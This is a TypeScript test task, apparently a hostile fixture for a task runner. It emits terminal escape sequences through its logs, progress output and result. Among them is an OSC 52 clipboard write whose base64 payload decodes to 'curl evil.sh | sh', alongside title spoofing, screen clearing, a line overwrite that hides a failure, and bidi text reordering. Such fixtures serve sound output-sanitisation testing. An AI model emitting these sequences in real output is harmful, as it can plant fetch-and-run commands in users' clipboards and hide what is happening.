// Prints terminal control sequences through every channel a task has: a log
// line, a progress label, detail and summary, and its rendered result. OSC 52
// writes the clipboard, OSC 0 retitles the window, ESC[2J clears the screen,
// a lone \r overwrites the line, \x9b is an 8-bit CSI, U+202E reorders the text.
import { defineTask } from "@wst/wst";
import { z } from "zod";

const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
const TITLE = "\x1b]0;owned\x1b\\";
const CLEAR = "\x1b[2J\x1b[H";

export default defineTask({
  name: "output-osc52",
  description: "Hostile: control sequences in logs, progress and the result",
  args: z.object({}),
  run(ctx) {
    ctx.log.info(`log ${CLIPBOARD}${TITLE}`);
    ctx.log.warn(`all good\rFAIL hidden\x9b2J`);
    const progress = ctx.log.progress(`label ${TITLE}`, 1);
    progress.tick(`detail ${CLEAR}`);
    progress.done(`summary \u202eevil\u202c ${CLIPBOARD}`);
    return { text: `result ${CLIPBOARD}${CLEAR}\x1b[31mred\x1b[0m \u2066x\u2069` };
  },
  render: (result) => result.text,
});
